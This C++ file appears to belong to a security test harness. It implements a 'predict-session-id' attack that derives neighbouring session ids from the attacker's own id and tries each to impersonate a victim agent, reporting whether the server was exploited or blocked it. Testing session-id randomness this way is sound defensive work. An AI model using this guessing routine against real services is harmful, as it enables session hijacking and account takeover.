// predict-session-id: the attacker logs in, looks at the session id it was
// given and computes its neighbours. Exploited when a computed id (never
// handed to the attacker) acts as the victim.
#include <algorithm>
#include <cctype>

#include "attacks/attack_helpers.h"
#include "attacks/attack_list.h"

namespace lab::attacks {
namespace {

// Candidate ids near `own`: numeric neighbours, variations of the last hex digit, or (base64url ids) the
// neighbours of the last character.
std::vector<std::string> candidates_from(const std::string& own) {
  std::vector<std::string> out;
  std::size_t digits = own.size();
  while (digits > 0 && std::isdigit(static_cast<unsigned char>(own[digits - 1]))) --digits;
  if (digits < own.size() && own.size() - digits <= 18) {
    const std::string prefix = own.substr(0, digits);
    const std::string number = own.substr(digits);
    const long long n = std::stoll(number);
    for (long long delta : {-1, -2, -3, -4, -5, 1, 2, 3}) {
      if (n + delta < 0) continue;
      std::string s = std::to_string(n + delta);
      if (number.size() > 1 && number[0] == '0' && s.size() < number.size()) {
        s.insert(0, number.size() - s.size(), '0');
      }
      out.push_back(prefix + s);
    }
    return out;
  }
  if (own.empty()) return out;
  const bool hex_id = std::all_of(own.begin(), own.end(), [](char c) {
    return std::isxdigit(static_cast<unsigned char>(c)) || c == '-' || c == '_';
  });
  if (!hex_id || !std::isxdigit(static_cast<unsigned char>(own.back()))) {
    // Another alphabet (base64url): the neighbours of its last character.
    const std::string alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    const auto v = alphabet.find(own.back());
    if (v == std::string::npos) return out;
    for (std::size_t step : {1u, 2u, 3u, 61u, 62u, 63u}) {
      std::string s = own;
      s.back() = alphabet[(v + step) % alphabet.size()];
      out.push_back(s);
    }
    return out;
  }
  const std::string hex = "0123456789abcdef";
  const auto v = hex.find(static_cast<char>(std::tolower(static_cast<unsigned char>(own.back()))));
  for (std::size_t flip : {v ^ 1u, v ^ 2u, v ^ 4u, v ^ 8u, (v + 1) % 16, (v + 15) % 16}) {
    std::string s = own;
    s.back() = hex[flip];
    if (s != own && std::find(out.begin(), out.end(), s) == out.end()) out.push_back(s);
  }
  return out;
}

class PredictSessionId final : public Attack {
 public:
  std::string_view id() const override { return "predict-session-id"; }
  std::string_view title() const override { return "Predict another agent's session id"; }

  AttackResult run(const Target& t) const override {
    const auto victim_id = victim_identity(t);
    auto victim = client::open_session(t.stage, t.endpoint, victim_id);
    if (!victim) return failed("victim cannot log in: " + victim.error().message);

    auto attacker = client::open_session(t.stage, from_other_host(t), attacker_identity(t));
    if (!attacker) return failed("attacker cannot log in: " + attacker.error().message);
    const std::string own = (*attacker)->session_id.value_or("");
    const auto guesses = candidates_from(own);

    auto probe = client::open_connection(from_other_host(t));
    if (!probe) return failed("attacker cannot connect: " + probe.error().message);
    std::optional<Error> first_refusal;
    for (std::size_t i = 0; i < guesses.size(); ++i) {
      (*probe)->session_id = guesses[i];
      auto owner = owner_of_new_project(**probe, "guess-" + t.tag + "-" + std::to_string(i));
      if (owner && *owner == victim_id.agent_id) {
        return exploited("from its own id " + own + " the attacker computed " + guesses[i] +
                         " (guess " + std::to_string(i + 1) + " of " + std::to_string(guesses.size()) +
                         "), which created a project owned by " + victim_id.agent_id);
      }
      if (!owner && !first_refusal) first_refusal = owner.error();
    }
    const std::string evidence = std::to_string(guesses.size()) + " guesses derived from " + own +
                                 ", none acted as the victim";
    if (!first_refusal) return blocked(evidence);
    return refused(*first_refusal, evidence + "; first refusal: " + describe(*first_refusal));
  }
};

}  // namespace

std::unique_ptr<Attack> make_predict_session_id() { return std::make_unique<PredictSessionId>(); }

}  // namespace lab::attacks
